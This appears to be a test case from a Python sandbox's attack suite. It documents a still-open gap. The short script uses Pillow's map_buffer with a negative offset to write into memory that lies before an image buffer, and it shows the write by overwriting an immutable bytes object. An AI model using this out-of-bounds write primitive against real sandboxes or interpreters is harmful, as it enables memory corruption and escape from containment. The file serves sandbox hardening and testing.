# class: machine_code
# rule: native_code
# needs: module:PIL
# success: Pillow takes memory that lies before a buffer for an image, and changes an immutable
#   object
# proof: word
# open: Pillow's map_buffer checks where an image ends in its buffer, and not where it begins. It
#   makes no call of libc, and to refuse the module would refuse Pillow
import sys

from attack import attempt
from PIL import Image

HEAD = sys.getsizeof(b"") - 1


@attempt
def write():
    kept = sorted((bytes([65]) * 32 for _ in range(2)), key=id)
    target, buffer = (id(text) + HEAD for text in kept)
    image = Image.core.map_buffer(kept[1], (32, 1), "raw", target - buffer, ("L", 32, 1))
    image.putpixel((0, 0), 66)
    return kept[0] == b"B" + b"A" * 31
